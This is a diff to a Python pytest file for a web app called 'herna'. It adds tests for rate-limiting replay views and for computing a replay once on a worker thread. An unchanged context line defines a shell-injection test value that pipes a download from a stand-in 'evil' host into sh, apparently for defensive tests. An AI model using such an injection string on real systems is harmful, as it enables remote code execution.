@@ -7,12 +7,16 @@ import logging
 import re
 import socket
 import stat
+import threading
 import time
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from herna.kernel.errors import BadRecord
+from herna.kernel.match import Match
 from herna.kernel.record import read
 from herna.web.errors import plain
 from herna.web.guard import headers
@@ -20,6 +24,7 @@ from herna.web.pages.newtable import HUES, seat_rows
 from herna.web.readers import Reader
 from herna.web.rows import Visitor
 from herna.web.store import Store
+from herna.web.tape import Tape
 from web.guests import Guest, Inn, apart
 
 EVIL = "'; curl evil|sh; echo '"
@@ -197,3 +202,33 @@ def test_a_link_and_a_leaver_leave_no_older_link_open(inn: Inn) -> None:
 def links(guest: Guest, table: str) -> list[str]:
     """Return the invitations that a page shows."""
     return re.findall(r"/join/[\w-]+", guest.get(f"/t/{table}").text)
+
+
+def test_looks_at_replays_are_limited(tmp_path: Path) -> None:
+    inn = Inn(f"sqlite:///{tmp_path / 'herna.db'}", reads_per_minute=3).open()
+    try:
+        guest = inn.guest()
+        table = guest.new_table(seat1="bot", level1="random", seat2="none", seat3="none")
+        found = [guest.get(f"/t/{table}/replay").status_code for _look in range(4)]
+        assert found == [200, 200, 200, 429]
+    finally:
+        inn.close()
+
+
+def test_a_replay_is_computed_once_and_aside(inn: Inn, monkeypatch: pytest.MonkeyPatch) -> None:
+    guest = inn.guest()
+    table = finished(guest)
+    made: list[str] = []
+
+    class Counted(Tape):
+        """Remembers in which thread a tape was made."""
+
+        def __init__(self, match: Match[Any]) -> None:
+            made.append(threading.current_thread().name)
+            super().__init__(match)
+
+    monkeypatch.setattr("herna.web.tape.Tape", Counted)
+    with ThreadPoolExecutor(4) as pool:
+        pages = list(pool.map(lambda at: inn.guest().get(f"/t/{table}/replay?at={at}"), range(4)))
+    assert [page.status_code for page in pages] == [200] * 4
+    assert len(made) == 1 and made[0] != inn.thread.name
